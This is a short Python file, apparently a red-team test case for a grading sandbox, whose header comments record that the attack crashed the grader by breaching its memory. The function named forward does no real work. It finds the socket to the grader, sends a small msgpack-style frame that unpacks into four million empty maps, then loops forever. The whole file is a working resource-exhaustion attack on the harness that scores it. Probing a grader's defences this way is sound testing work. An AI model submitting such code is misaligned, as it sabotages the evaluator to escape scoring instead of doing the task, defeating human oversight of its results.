# what: Send the grader a short message that unfolds to very much: millions of empty dicts.
# verdict: crashed
# breach: memory: the grader's own memory grows by hundreds of megabytes
# defence: weighing
# limits: cpu=2 wall=20
import os
import stat


def forward(x, w1, w2, b):
    count = 4 * 10**6
    message = b"\x83\xa5value\xc0\xa7changed\x90\xa6weight\xdd" + count.to_bytes(4, "big") + b"\x80" * count
    frame = len(message).to_bytes(4, "big") + message
    (channel,) = (fd for fd in range(3, 64) if is_socket(fd))
    while frame:
        frame = frame[os.write(channel, frame) :]
    while True:
        pass


def is_socket(descriptor):
    try:
        return stat.S_ISSOCK(os.fstat(descriptor).st_mode)
    except OSError:
        return False
